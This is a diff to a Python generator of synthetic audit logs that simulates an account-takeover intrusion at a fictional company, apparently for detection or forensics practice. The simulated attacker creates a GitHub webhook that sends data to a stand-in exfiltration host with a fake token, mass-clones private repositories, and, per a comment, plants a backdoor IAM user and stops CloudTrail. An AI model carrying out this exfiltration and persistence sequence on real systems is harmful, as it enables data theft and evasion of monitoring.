@@ -85,11 +85,20 @@ def okta(t, event_type, user, result='SUCCESS', ip=None, reason=None, target=Non
                                   'interface': None, 'authenticationStep': 0, 'externalSessionId': h('sess', alt, t.hour // 8)[:25]},
         'outcome': {'result': result, 'reason': reason},
         'securityContext': {'asNumber': 64500, 'asOrg': 'example transit', 'isp': 'example isp', 'domain': 'example', 'isProxy': ip == ATTACKER_IP},
-        'debugContext': {'debugData': debug or {'requestId': h('req', t)[:22], 'requestUri': '/api/v1/authn', 'url': '/api/v1/authn?'}},
+        'debugContext': {'debugData': debug or default_debug(t, event_type, result, ip)},
         'transaction': {'type': 'WEB', 'id': h('tx', t, alt)[:22], 'detail': {}},
         'target': target or [],
         'request': {'ipChain': [{'ip': ip, 'version': 'V4', 'source': None}]},
     })
+
+
+def default_debug(t, event_type, result, ip):
+    debug = {'requestId': h('req', t)[:22], 'requestUri': '/idp/idx/identify', 'url': '/idp/idx/identify?'}
+    if event_type == 'user.session.start' and result == 'SUCCESS':
+        new = 'POSITIVE' if ip == ATTACKER_IP else 'NEGATIVE'
+        debug['behaviors'] = (f'{{New Geo-Location={new}, New Device={new}, New IP={new}, New State={new}, '
+                              f'New Country={new}, Velocity={new}, New City={new}}}')
+    return debug
 
 
 def okta_target(alt, ttype='User', display=None):
@@ -180,7 +189,7 @@ def gws(t, app, name, user, params=(), etype=None, ip=None):
         'kind': 'admin#reports#activity',
         'id': {'time': iso_ms(t), 'uniqueQualifier': str(-int(h('gq', app, name, t, email)[:15], 16)), 'applicationName': app, 'customerId': 'C03acme01'},
         'etag': '"' + h('etag', t, name, email)[:40] + '"',
-        'actor': {'callerType': 'USER', 'email': email, 'profileId': str(int(h(email)[:14], 16))},
+        'actor': {'callerType': 'USER', 'email': email, 'profileId': str(100000000000000000000 + int(h(email)[:16], 16) % 10 ** 20)},
         'ipAddress': ip or OFFICE_IP,
         'events': [{'type': etype or 'access', 'name': name, 'parameters': ps}],
     })
@@ -411,7 +420,12 @@ def attack():
            fingerprint='SHA256:' + h('deploykey')[:43], actor_ip=ATTACKER_IP)
     github(at(14, 45, 20), 'hook.create', 'dk-backup-7', org=ORG, hook_id=4880017, name='webhook', events=['push', 'repository', 'member'], active=True, actor_ip=ATTACKER_IP,
            config={'url': 'https://collector.exfil.example/gh?token=ghp_R8fKc2LmQ9vX3tYw7ZpA1sD4gH6jN0bE5uVi', 'content_type': 'json', 'insecure_ssl': '1'})
-    github(at(14, 46, 2), 'git.clone', 'dk-backup-7', repo='acme-corp/payments-api', repository_public=False, transport_protocol_name='ssh', actor_ip=ATTACKER_IP)
+    # then clones most of the organization's repositories with the new owner account
+    all_repos = REPOS + ['acme-corp/' + r for r in ('billing-service', 'auth-gateway', 'admin-portal', 'ml-models', 'ios-app', 'android-app',
+                                                     'docs', 'helm-charts', 'secrets-rotation', 'customer-exports', 'analytics')]
+    for i, repo in enumerate(all_repos):
+        github(at(14, 46, 2) + dt.timedelta(seconds=11 * i), 'git.clone', 'dk-backup-7', repo=repo, repository_public=False,
+               transport_protocol_name='ssh', actor_ip=ATTACKER_IP)
 
     # 14:50 AWS: federated console session, backdoor IAM user with an access key and admin, CloudTrail stopped
     ident = assumed('AWSReservedSSO_PlatformAdmin_4f1c2d3e', EMAIL[VICTIM])
